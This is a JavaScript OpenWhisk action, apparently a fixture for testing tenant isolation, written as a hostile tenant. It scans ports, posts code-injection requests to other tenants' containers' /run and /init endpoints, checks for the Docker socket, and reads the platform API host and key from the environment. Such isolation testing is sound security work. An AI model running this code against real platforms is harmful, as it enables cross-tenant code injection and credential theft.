// A hostile tenant's action: tries every address it is given, then calls the platform the way it may.
const fs = require('fs');
const http = require('http');
const net = require('net');
const os = require('os');

function connect(host, port) {
  return new Promise((resolve) => {
    const s = net.connect({ host, port, timeout: 1500 });
    s.on('connect', () => { s.destroy(); resolve('open'); });
    s.on('timeout', () => { s.destroy(); resolve('timeout'); });
    s.on('error', (e) => resolve(e.code || String(e)));
  });
}

// the runtime protocol, spoken to another tenant's container
function post(host, path, body) {
  return new Promise((resolve) => {
    const req = http.request({ host, port: 8080, path, method: 'POST', timeout: 1500,
      headers: { 'Content-Type': 'application/json' } }, (res) => {
      let text = '';
      res.on('data', (c) => { text += c; });
      res.on('end', () => resolve(`answered ${res.statusCode} ${text}`));
    });
    req.on('timeout', () => { req.destroy(); resolve('timeout'); });
    req.on('error', (e) => resolve(e.code || String(e)));
    req.end(JSON.stringify(body));
  });
}

async function main(p) {
  const mine = Object.values(os.networkInterfaces()).flat().map((i) => i.address);
  const out = { ports: {}, containers: {} };
  await Promise.all(p.ports.map(async (t) => {
    const [host, port] = t.split(':');
    out.ports[t] = await connect(host, Number(port));
  }));
  await Promise.all(p.containers.filter((ip) => !mine.includes(ip)).map(async (ip) => {
    out.containers[`${ip} /run`] = await post(ip, '/run', { value: { steal: true } });
    out.containers[`${ip} /init`] = await post(ip, '/init', { value: { code: 'function main() { return {owned: true}; }' } });
  }));
  out.dockerSocket = fs.existsSync('/var/run/docker.sock');
  out.apiHost = process.env.__OW_API_HOST || null;
  out.apiKey = process.env.__OW_API_KEY || null;
  const ow = require('openwhisk')();
  out.invoked = await ow.actions.invoke({ name: p.echo, blocking: true, result: true, params: { hello: 'from inside' } });
  out.fired = await ow.triggers.invoke({ name: p.trigger, params: { x: 1 } });
  return out;
}
